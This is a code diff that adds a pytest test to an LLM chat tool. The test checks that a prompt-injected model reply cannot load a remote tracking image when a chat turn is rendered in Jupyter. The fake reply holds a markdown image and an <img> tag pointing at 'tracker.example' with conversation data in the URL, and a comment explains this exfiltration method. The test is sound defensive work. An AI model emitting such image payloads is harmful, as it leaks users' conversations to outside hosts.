@@ -120,3 +120,20 @@ def test_an_unknown_llm_stops_the_turn_before_the_question_is_stored(wb, docs_si
     with pytest.raises(ConfigError, match="Unknown LLM 'gpt4'"):
         misconfigured.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site)
     assert _roles(wb, session_id) == []
+
+
+def test_a_turns_markdown_loads_nothing_the_model_wrote(llm_wb, llm_server, docs_site, session_id) -> None:
+    # A prompt-injected model can answer with a remote image that carries the conversation in its URL; Jupyter
+    # renders a turn's markdown with raw HTML on, so both forms would load it as soon as the turn is shown.
+    from markdown_it import MarkdownIt
+
+    pixel = "https://tracker.example/p.png?leak=hybrid"
+    llm_server.reply = lambda body: (f"See [1] ![chart]({pixel}) and <img src=\"{pixel}\"> "
+                                     "with **bold** and [the docs](https://docs.example/search).")
+    turn = llm_wb.chat("Where is hybrid search implemented?", session_id=session_id, site_id=docs_site)
+
+    assert pixel in turn.answer  # the stored answer is the model's own text
+    html = MarkdownIt("commonmark", {"html": True}).render(turn._repr_markdown_())
+    assert "<img" not in html and 'src="https://tracker' not in html, html
+    assert "<strong>bold</strong>" in html and '<a href="https://docs.example/search">the docs</a>' in html
+    assert "docs/search.md" in html  # the sources block is still there
